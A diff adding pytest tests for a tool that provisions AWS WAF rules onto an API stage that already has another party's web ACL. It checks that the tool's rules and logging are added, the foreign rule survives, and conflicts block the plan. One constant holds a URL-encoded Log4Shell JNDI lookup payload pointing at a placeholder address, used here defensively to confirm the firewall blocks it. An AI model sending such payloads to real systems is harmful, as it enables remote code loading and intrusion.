@@ -1,0 +1,83 @@
+"""On the embedded AWS: a stage that has somebody else's web ACL keeps it, and is protected all the same."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from provisioners.block_list import SCOPE
+from provisioners.firewall_logging import read_configuration
+from provisioners.firewall_rules import ORDER, visible
+from provisioners.firewall_state import WebAcl, read_acl, read_stages, stage_arn
+from stormproof.core.observations import FIREWALL_MARK
+from stormproof.core.plans import CURRENT_TOKEN, Call, Ref
+from tests.provisioners.live.conftest import Site
+
+THEIRS = "theirs"
+ATTACK = "/health?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"
+RULE: dict[str, Any] = {
+    "Name": "deletes-only-by-day",
+    "Priority": 3,
+    "Statement": {
+        "ByteMatchStatement": {
+            "SearchString": b"DELETE",
+            "PositionalConstraint": "EXACTLY",
+            "FieldToMatch": {"Method": {}},
+            "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
+        }
+    },
+    "Action": {"Block": {}},
+    "VisibilityConfig": visible("deletes-only-by-day"),
+}
+
+
+@pytest.fixture
+def foreign(hardened: Site) -> Iterator[Site]:
+    """The system, whose stage somebody has given an ACL of his own."""
+    reads = hardened.reached.connection.reader
+    ours, stage = read_stages(reads, hardened.desired).own, stage_arn(hardened.desired, hardened.system.api.stage)
+    settings = {"DefaultAction": {"Allow": {}}, "Rules": [RULE], "VisibilityConfig": visible(THEIRS)}
+    hardened.disturb(
+        Call("wafv2", "create_web_acl", {"Name": THEIRS, "Scope": SCOPE, **settings}, yields={"theirs": "Summary.ARN"}),
+        Call("wafv2", "associate_web_acl", {"WebACLArn": Ref("theirs"), "ResourceArn": stage}),
+    )
+    yield hardened
+    named = {"Name": THEIRS, "Scope": SCOPE, "Id": CURRENT_TOKEN, "LockToken": CURRENT_TOKEN}
+    hardened.disturb(
+        Call("wafv2", "associate_web_acl", {"WebACLArn": ours, "ResourceArn": stage}),
+        Call("wafv2", "delete_web_acl", named),
+    )
+
+
+def theirs(site: Site) -> WebAcl:
+    """Return the ACL that the stage has."""
+    reads = site.reached.connection.reader
+    (stage,) = read_stages(reads, site.desired).stages
+    return read_acl(reads, stage.acl)
+
+
+def test_our_rules_come_into_it_and_theirs_stay(foreign: Site) -> None:
+    """One apply protects and logs; the next has nothing to do; the ACL on the stage is still theirs."""
+    assert foreign.ask(ATTACK).status == 401
+    plan = foreign.plan()
+    assert {change.control for change in plan.changes} == {"firewall", "firewall-logging"}
+    foreign.apply(plan)
+    assert not foreign.plan().changes
+    acl = theirs(foreign)
+    assert acl.document["Name"] == THEIRS
+    assert {rule["Name"] for rule in acl.rules} == {RULE["Name"], *ORDER}
+    assert RULE in acl.rules
+    refused = foreign.ask(ATTACK)
+    assert (refused.status, refused.headers[FIREWALL_MARK]) == (403, "attack")
+    assert FIREWALL_MARK not in foreign.ask("/projects/1", "DELETE").headers
+    assert read_configuration(foreign.reached.connection.reader, acl.arn) is not None
+
+
+def test_a_rule_that_allows_everything_first_stops_the_plan(foreign: Site) -> None:
+    """Nothing is applied, and the conflict names the rule."""
+    allowing = {**RULE, "Priority": 0, "Action": {"Allow": {}}}
+    foreign.disturb(theirs(foreign).updated({"Rules": [allowing]}))
+    (conflict,) = foreign.plan().blocked
+    assert RULE["Name"] in conflict.reason
